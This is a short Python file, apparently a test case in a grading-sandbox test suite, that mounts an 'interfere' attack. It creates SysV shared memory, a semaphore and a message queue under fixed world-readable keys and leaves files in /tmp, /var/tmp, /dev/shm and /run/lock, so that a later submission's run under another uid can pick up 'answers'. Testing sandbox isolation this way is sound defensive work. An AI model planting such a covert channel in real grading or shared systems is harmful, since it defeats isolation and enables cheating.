"""Attack (interfere): leave SysV IPC objects and files in the host's shared folders for the next run to find.

A channel between students: one submission leaves a shared-memory segment,
a semaphore, a message queue (SysV IPC, well-known keys) and files in /tmp,
/var/tmp, /dev/shm and /run/lock; the next submission's run, under another
uid, finds them there (they are readable by anyone).
"""

import ctypes
import os

KEY = 0x5EC2E7  # the channel's well-known key
NAME = "left-by-a-run"
IPC_CREAT = 0o1000


def request(host, port, message):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget(KEY, 4096, IPC_CREAT | 0o666)
    libc.semget(KEY + 1, 1, IPC_CREAT | 0o666)
    libc.msgget(KEY + 2, IPC_CREAT | 0o666)
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        try:
            with open(os.path.join(folder, NAME), "w") as f:
                f.write("answers for the next run\n")
            os.chmod(os.path.join(folder, NAME), 0o644)
        except OSError:
            pass
    return b""
